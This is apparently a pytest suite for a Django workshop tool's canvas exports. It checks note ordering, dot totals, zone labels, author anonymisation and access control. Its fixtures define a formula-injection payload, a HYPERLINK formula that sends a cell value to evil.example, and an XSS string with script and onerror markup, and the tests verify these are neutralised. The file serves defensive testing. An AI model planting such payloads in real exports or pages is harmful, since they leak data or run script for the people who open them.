"""Canvas exports: CSV, XLSX, JSON and SVG agree on the live notes (deleted ones left
out, dots totalled, zones labelled), guard against formula injection and markup
injection, hide authors on anonymous canvases, and only the entity's team downloads
them."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from datetime import UTC, datetime

import openpyxl
import pytest
from django.db import transaction
from django.urls import reverse
from django.utils import translation

from canvases import ops
from canvases.exports import export_csv, export_json, export_svg, export_xlsx
from canvases.services import canvas_apply
from cocrea.toolkit.models import Level, Methodology, Pillar
from sessions import live
from sessions.services import StageInput, process_create

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"clic")'
XSS = '<script>alert(1)</script> "><img src=x onerror=alert(1)> & ñandú'
SVG = "{http://www.w3.org/2000/svg}"


@pytest.fixture
def session(entity, alice):
    process = process_create(
        entity=entity,
        title="Árbol de problemas del barrio",
        primary_pillar=Pillar.objects.get(code="participacion"),
        stages=[StageInput(name="Diagnóstico", level=Level.objects.get(code="colaborar"))],
        created_by=alice,
    )
    return live.session_create(stage=process.stages.get(), title="Taller", created_by=alice)


@pytest.fixture
def methodology():
    return Methodology.objects.filter(zones__isnull=False).distinct().order_by("order").first()


@pytest.fixture
def zones(methodology):
    return list(methodology.zones.order_by("order"))


@pytest.fixture
def ana(session):
    return live.participant_join(session=session, display_name="Ana Pérez", consent=True)


def apply(canvas, op, actor):
    with transaction.atomic():
        return canvas_apply(
            canvas_id=canvas.pk, stream=canvas.activity.session.stream, actor=actor, op=op
        )


def fill(canvas, zones, ana, alice):
    """Notes in the first two zones and one outside every zone, with a cluster, links,
    dots, a merge and a deletion."""
    me, host = ops.Actor(f"p:{ana.pk}"), ops.Actor(f"u:{alice.pk}", facilitator=True)
    first, second = zones[0], zones[1]
    notes = [
        ("n1", "Basuras en el caño", first.x + 10, first.y + 10, me),
        ("n2", HYPERLINK, first.x + 200, first.y + 10, me),
        ("n3", XSS, second.x + 10, second.y + 10, host),
        ("n4", "Se borrará", second.x + 300, second.y + 10, me),
        ("n5", "Fuera de zona", 2, 2, host),
        ("n6", "Repetida", second.x + 500, second.y + 10, me),
    ]
    for note_id, text, x, y, actor in notes:
        op = {"op": "create", "id": note_id, "text": text, "x": x, "y": y}
        apply(canvas, op, actor)
    apply(canvas, {"op": "cluster", "cluster": "c1", "name": "Residuos", "notes": ["n1", "n2"]}, me)
    apply(canvas, {"op": "link", "id": "l1", "from": "n1", "to": "n3"}, me)
    apply(canvas, {"op": "link", "id": "l2", "from": "n3", "to": "n4"}, me)
    for note_id, actor in [("n1", me), ("n1", me), ("n1", host), ("n3", host), ("n4", me)]:
        apply(canvas, {"op": "dot", "note": note_id}, actor)
    apply(canvas, {"op": "dot", "note": "n6"}, me)
    apply(canvas, {"op": "delete", "note": "n4"}, me)
    apply(canvas, {"op": "merge", "into": "n5", "note": "n6"}, host)
    canvas.refresh_from_db()
    return canvas


@pytest.fixture
def canvas(session, methodology, zones, ana, alice):
    activity = live.activity_add(
        session=session, kind="canvas", title="Árbol del barrio", methodology=methodology
    )
    return fill(activity.canvas, zones, ana, alice)


@pytest.fixture
def anonymous_canvas(session, methodology, zones, ana, alice):
    activity = live.activity_add(
        session=session,
        kind="canvas",
        title="Anónimo",
        methodology=methodology,
        canvas_settings={"anonymous": True},
    )
    return fill(activity.canvas, zones, ana, alice)


def read_csv(text):
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


# --- CSV -------------------------------------------------------------------------------


def test_csv_has_the_live_notes_in_board_order(canvas, zones, alice):
    rows = read_csv(export_csv(canvas, include_authors=True))
    assert [r["Id"] for r in rows] == ["n1", "n2", "n3", "n5"]  # n4 deleted, n6 merged
    n1, n2, n3, n5 = rows
    assert (n1["Clave de zona"], n1["Zona"]) == (zones[0].key, zones[0].label)
    assert (n3["Clave de zona"], n3["Zona"]) == (zones[1].key, zones[1].label)
    assert (n5["Clave de zona"], n5["Zona"]) == ("", "")
    assert n1["Texto"] == "Basuras en el caño"
    assert n3["Texto"] == XSS
    assert (n1["X"], n1["Y"], n1["Ancho"], n1["Alto"]) == (
        str(zones[0].x + 10),
        str(zones[0].y + 10),
        "160",
        "160",
    )
    assert n1["Color"] == "yellow"
    assert (n1["Id de grupo"], n1["Grupo"]) == ("c1", "Residuos")
    assert (n3["Id de grupo"], n3["Grupo"]) == ("", "")
    # n4's dot went back to its voter; n6's dot moved to n5 with the merge.
    assert [r["Puntos"] for r in rows] == ["3", "0", "1", "1"]
    assert [r["Autoría"] for r in rows] == [
        "Ana Pérez",
        "Ana Pérez",
        alice.full_name,
        alice.full_name,
    ]
    assert n5["Fusionada desde"] == "n6"
    # l2 pointed at the deleted note and went with it.
    assert (n1["Enlaza a"], n3["Enlaza a"]) == ("n3", "")


def test_csv_guards_against_formula_injection(canvas):
    rows = read_csv(export_csv(canvas, include_authors=True))
    assert rows[1]["Texto"] == "'" + HYPERLINK
    assert rows[0]["Texto"] == "Basuras en el caño"  # ordinary text untouched


def test_csv_guards_every_dangerous_first_character(canvas, zones, alice):
    host = ops.Actor(f"u:{alice.pk}", facilitator=True)
    dangerous = ["+1+1", "-2+3", "@SUM(A1)"]
    for index, text in enumerate(dangerous):
        x, y = zones[2].x + 10 + 170 * index, zones[2].y + 10
        apply(canvas, {"op": "create", "id": f"d{index}", "text": text, "x": x, "y": y}, host)
    apply(canvas, {"op": "cluster", "cluster": "c2", "name": "=1+1", "notes": ["d0"]}, host)
    canvas.refresh_from_db()
    rows = {r["Id"]: r for r in read_csv(export_csv(canvas, include_authors=True))}
    assert [rows[f"d{i}"]["Texto"] for i in range(3)] == ["'+1+1", "'-2+3", "'@SUM(A1)"]
    assert rows["d0"]["Grupo"] == "'=1+1"


def test_anonymous_canvas_names_no_one(anonymous_canvas, ana, alice):
    text = export_csv(anonymous_canvas, include_authors=False)
    rows = read_csv(text)
    assert len(rows) == 4
    assert "Autoría" not in rows[0]
    assert "Ana" not in text and alice.full_name not in text and alice.email not in text
    data = export_json(anonymous_canvas, include_authors=False)
    assert all("author" not in note for note in data["notes"])
    dumped = json.dumps(data, ensure_ascii=False)
    assert "Ana" not in dumped and f'"u:{alice.pk}"' not in dumped and f'"p:{ana.pk}"' not in dumped
    svg = export_svg(anonymous_canvas, include_authors=False)
    assert "Ana" not in svg and alice.full_name not in svg
    book = openpyxl.load_workbook(io.BytesIO(export_xlsx(anonymous_canvas, include_authors=False)))
    cells = [str(c) for row in book["Notas"].iter_rows(values_only=True) for c in row]
    assert "Ana Pérez" not in cells and "Autoría" not in cells


def test_labels_follow_the_active_language(canvas, zones):
    with translation.override("en"):
        rows = read_csv(export_csv(canvas, include_authors=True))
        english = zones[0].tr("label")
    assert english != zones[0].label
    assert rows[0]["Zone"] == english
    assert rows[0]["Text"] == "Basuras en el caño"


# --- XLSX ------------------------------------------------------------------------------


def test_xlsx_has_notes_zones_and_groups(canvas, zones):
    book = openpyxl.load_workbook(io.BytesIO(export_xlsx(canvas, include_authors=True)))
    assert book.sheetnames == ["Notas", "Zonas", "Grupos"]

    notes = book["Notas"]
    header = [c.value for c in notes[1]]
    assert header[:4] == ["Id", "Clave de zona", "Zona", "Texto"]
    assert all(c.font.bold for c in notes[1])
    assert notes.freeze_panes == "A2"
    assert notes.column_dimensions["D"].width == 60
    rows = [dict(zip(header, row, strict=True)) for row in notes.iter_rows(2, values_only=True)]
    assert [r["Id"] for r in rows] == ["n1", "n2", "n3", "n5"]
    assert [r["Puntos"] for r in rows] == [3, 0, 1, 1]
    assert rows[0]["X"] == zones[0].x + 10
    assert rows[1]["Texto"] == "'" + HYPERLINK  # text, not a formula
    assert notes.cell(3, 4).data_type == "s"
    assert rows[2]["Texto"] == XSS
    assert rows[0]["Autoría"] == "Ana Pérez"

    zone_rows = list(book["Zonas"].iter_rows(values_only=True))
    assert zone_rows[0] == ("Clave de zona", "Zona", "Pregunta orientadora", "Notas", "Puntos")
    assert zone_rows[1] == (zones[0].key, zones[0].label, zones[0].prompt, 2, 3)
    assert zone_rows[2] == (zones[1].key, zones[1].label, zones[1].prompt, 1, 1)
    assert len(zone_rows) == 1 + len(zones) + 1
    assert zone_rows[-1] == (None, "Fuera de las zonas", None, 1, 1)

    group_rows = list(book["Grupos"].iter_rows(values_only=True))
    assert group_rows == [("Id de grupo", "Grupo", "Notas"), ("c1", "Residuos", 2)]


# --- JSON ------------------------------------------------------------------------------


def test_json_structure(canvas, methodology, zones, ana, alice):
    moment = datetime(2025, 5, 1, 12, 0, tzinfo=UTC)
    data = export_json(canvas, include_authors=True, now=moment)
    json.dumps(data)  # plain data
    assert data["format"] == "cocrea.canvas/1"
    assert data["activity"] == {"id": canvas.activity_id, "title": "Árbol del barrio"}
    assert data["session"] == {"code": canvas.activity.session.code, "title": "Taller"}
    assert data["methodology"] == methodology.slug
    assert (data["width"], data["height"]) == (methodology.canvas_width, methodology.canvas_height)
    assert [z["key"] for z in data["zones"]] == [z.key for z in zones]
    assert data["zones"][0]["label"] == zones[0].label
    assert [n["id"] for n in data["notes"]] == ["n1", "n2", "n3", "n5"]
    n1 = data["notes"][0]
    assert n1["zone"] == zones[0].key and n1["zone_label"] == zones[0].label
    assert n1["cluster"] == "c1" and n1["cluster_name"] == "Residuos"
    assert n1["author"] == "Ana Pérez"
    assert n1["links_to"] == ["n3"]
    assert data["notes"][1]["text"] == HYPERLINK  # JSON is data: no spreadsheet guard
    assert data["notes"][3]["zone"] is None and data["notes"][3]["merged_from"] == ["n6"]
    assert data["clusters"] == {"c1": "Residuos"}
    assert data["links"] == [{"id": "l1", "from": "n1", "to": "n3"}]
    assert data["dots"] == {"n1": 3, "n3": 1, "n5": 1}
    assert data["exported_at"] == moment.isoformat()
    # Who placed which dot is not exported, nor are author keys.
    dumped = json.dumps(data)
    assert "voter" not in dumped
    assert f'"p:{ana.pk}"' not in dumped and f'"u:{alice.pk}"' not in dumped


# --- SVG -------------------------------------------------------------------------------


def test_svg_is_well_formed_and_escapes_note_text(canvas, zones):
    text = export_svg(canvas, include_authors=True)
    root = ET.fromstring(text)
    assert root.tag == f"{SVG}svg"
    assert root.get("role") == "img" and "Árbol del barrio" in root.get("aria-label")
    assert root.find(f"{SVG}title").text.startswith("Lienzo «Árbol del barrio»")
    # The payload is text, never markup.
    assert "<script" not in text and "<img" not in text
    assert "&lt;script&gt;" in text
    for element in root.iter():
        local = element.tag.split("}")[-1]
        assert local not in {"script", "foreignObject", "image", "a", "iframe"}
        assert not [name for name in element.attrib if name.lower().startswith("on")]
    titles = [t.text for t in root.iter(f"{SVG}title")]
    assert any(t.startswith(XSS) for t in titles)
    drawn = " ".join(t.text for t in root.iter(f"{SVG}tspan"))  # wrapped lines, rejoined
    # Long words may be broken across lines: compare without the spaces.
    assert XSS.replace(" ", "") in drawn.replace(" ", "")
    assert "Basuras en el caño" in drawn and "Se borrará" not in "".join(root.itertext())


def test_svg_draws_zones_notes_dots_and_links(canvas, zones):
    root = ET.fromstring(export_svg(canvas, include_authors=True))
    zone_groups = [g for g in root.iter(f"{SVG}g") if g.get("class") == "zone"]
    assert [g.find(f"{SVG}title").text for g in zone_groups] == [z.label for z in zones]
    first_rect = zone_groups[0].find(f"{SVG}rect")
    assert (first_rect.get("x"), first_rect.get("y")) == (str(zones[0].x), str(zones[0].y))
    assert first_rect.get("fill") == zones[0].color
    notes = [g for g in root.iter(f"{SVG}g") if g.get("class") == "note"]
    assert len(notes) == 4
    rect = notes[0].find(f"{SVG}rect")
    assert rect.get("fill") == ops.COLOURS["yellow"]
    assert (rect.get("x"), rect.get("width")) == (str(zones[0].x + 10), "160")
    badges = [g for g in root.iter(f"{SVG}g") if g.get("class") == "dots"]
    assert sorted(b.find(f"{SVG}text").text for b in badges) == ["1", "1", "3"]
    links = [g for g in root.iter(f"{SVG}g") if g.get("class") == "links"][0]
    assert len(links.findall(f"{SVG}line")) == 1  # l2 went with the deleted note
    assert links.find(f"{SVG}line").get("marker-end") == "url(#arrow)"


def test_exports_drop_characters_xml_cannot_carry(canvas, zones, alice):
    host = ops.Actor(f"u:{alice.pk}", facilitator=True)
    op = {"op": "create", "id": "bad", "text": "a\x01b\x1bc", "x": zones[2].x + 10}
    apply(canvas, {**op, "y": zones[2].y + 10}, host)
    canvas.refresh_from_db()
    ET.fromstring(export_svg(canvas, include_authors=True))
    book = openpyxl.load_workbook(io.BytesIO(export_xlsx(canvas, include_authors=True)))
    assert "abc" in [row[3] for row in book["Notas"].iter_rows(values_only=True)]


# --- views -----------------------------------------------------------------------------


def url(canvas, fmt):
    return reverse("canvases:export", args=[canvas.activity.session.code, canvas.activity_id, fmt])


CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "json": "application/json",
    "svg": "image/svg+xml",
}


@pytest.mark.parametrize("fmt", sorted(CONTENT_TYPES))
def test_facilitator_downloads_each_format(client, canvas, alice, fmt):
    client.force_login(alice)
    response = client.get(url(canvas, fmt))
    assert response.status_code == 200
    assert response["Content-Type"] == CONTENT_TYPES[fmt]
    code = canvas.activity.session.code
    assert response["Content-Disposition"] == (
        f'attachment; filename="lienzo-{code}-{canvas.activity_id}.{fmt}"'
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    body = response.content
    if fmt == "csv":
        assert read_csv(body.decode("utf-8"))[0]["Autoría"] == "Ana Pérez"
    elif fmt == "xlsx":
        assert openpyxl.load_workbook(io.BytesIO(body)).sheetnames == ["Notas", "Zonas", "Grupos"]
    elif fmt == "json":
        assert [n["id"] for n in json.loads(body)["notes"]] == ["n1", "n2", "n3", "n5"]
    else:
        ET.fromstring(body)
        assert response["Content-Security-Policy"] == (
            "default-src 'none'; style-src 'unsafe-inline'"
        )


def test_official_may_export(client, canvas, bob):
    client.force_login(bob)
    assert client.get(url(canvas, "json")).status_code == 200


def test_anonymous_canvas_download_has_no_authors(client, anonymous_canvas, alice):
    client.force_login(alice)
    rows = read_csv(client.get(url(anonymous_canvas, "csv")).content.decode("utf-8"))
    assert len(rows) == 4 and "Autoría" not in rows[0]


def test_visitors_are_sent_to_sign_in(client, canvas):
    target = url(canvas, "csv")
    response = client.get(target)
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('login')}?next={target}"


@pytest.mark.parametrize("person", ["oscar", "carol"])
def test_others_do_not_learn_the_canvas_exists(client, canvas, request, person):
    client.force_login(request.getfixturevalue(person))
    response = client.get(url(canvas, "csv"))
    assert response.status_code == 404
    assert "Basuras" not in response.content.decode()


def test_unknown_format_activity_or_session_is_404(client, canvas, session, alice):
    client.force_login(alice)
    code = session.code
    slide = live.activity_add(session=session, kind="slide", title="Hola")
    for path in [
        url(canvas, "pdf"),
        reverse("canvases:export", args=[code, slide.pk, "csv"]),
        reverse("canvases:export", args=[code, 999999, "csv"]),
        reverse("canvases:export", args=["ZZZZZZ", canvas.activity_id, "csv"]),
    ]:
        assert client.get(path).status_code == 404, path


def test_a_canvas_of_another_session_is_404(client, canvas, entity, alice):
    other = live.session_create(
        stage=canvas.activity.session.stage, title="Otra sesión", created_by=alice
    )
    client.force_login(alice)
    path = reverse("canvases:export", args=[other.code, canvas.activity_id, "csv"])
    assert client.get(path).status_code == 404


def test_only_get(client, canvas, alice):
    client.force_login(alice)
    assert client.post(url(canvas, "csv")).status_code == 405
